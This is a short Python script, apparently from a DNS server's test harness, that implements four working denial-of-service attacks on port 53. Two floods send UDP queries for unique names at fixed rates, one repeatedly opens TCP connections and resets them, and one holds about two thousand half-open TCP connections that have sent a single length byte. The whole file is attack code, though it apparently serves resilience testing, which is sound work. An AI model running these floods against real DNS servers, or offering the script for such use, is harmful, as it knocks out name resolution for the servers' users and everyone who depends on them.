#!/usr/bin/env python3
"""A hostile client with an address of its own. Runs until it is ended.

    attacker.py ATTACK SOURCE SERVER

The attacks stand in ATTACKS.
"""

import contextlib
import selectors
import socket
import struct
import sys
import time

import message

PORT = 53
SILENT_A_SECOND = 5_000
ENDLESS_A_SECOND = 200
SOCKETS = 16
# Queries are sent in turns of this length, seconds.
TURN = 0.01
# Connections that are held with half a query.
HALF_OPEN = 2_000
# Without a reset, the client's ports would run out while closed connections linger.
RESET = struct.pack("ii", 1, 0)


def ask(names, a_second, source, server):
    """Sends queries for new names at a steady rate, and reads no reply."""
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(SOCKETS)]
    for one in sockets:
        one.bind((source, 0))
        one.setblocking(False)
    start, sent = time.monotonic(), 0
    while True:
        due = int((time.monotonic() - start) * a_second)
        while sent < due:
            query = message.query(sent & 0xFFFF, names(sent))
            # A full buffer or an ICMP error loses one of many.
            with contextlib.suppress(OSError):
                sockets[sent % SOCKETS].sendto(query, (server, PORT))
            sent += 1
        time.sleep(TURN)


def silent(source, server):
    ask(lambda number: f"{number}.{message.SILENT_ZONE}", SILENT_A_SECOND, source, server)


def endless(source, server):
    ask(lambda number: f"{number}.{message.ENDLESS_ZONE}", ENDLESS_A_SECOND, source, server)


def churn(source, server):
    """Opens and closes connections, one after the other."""
    while True:
        with contextlib.suppress(OSError), connected(source, server):
            pass


def half(source, server):
    """Holds connections that have sent one octet of a length, and opens new ones for those that go."""
    selector = selectors.DefaultSelector()
    while True:
        while len(selector.get_map()) < HALF_OPEN:
            try:
                one = connected(source, server)
                one.send(b"\0")
            except OSError:
                break
            selector.register(one, selectors.EVENT_READ)
        for key, _ in selector.select(TURN):
            selector.unregister(key.fileobj)
            key.fileobj.close()


def connected(source, server):
    one = socket.create_connection((server, PORT), 1, (source, 0))
    one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
    return one


ATTACKS = {"silent": silent, "endless": endless, "churn": churn, "half": half}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
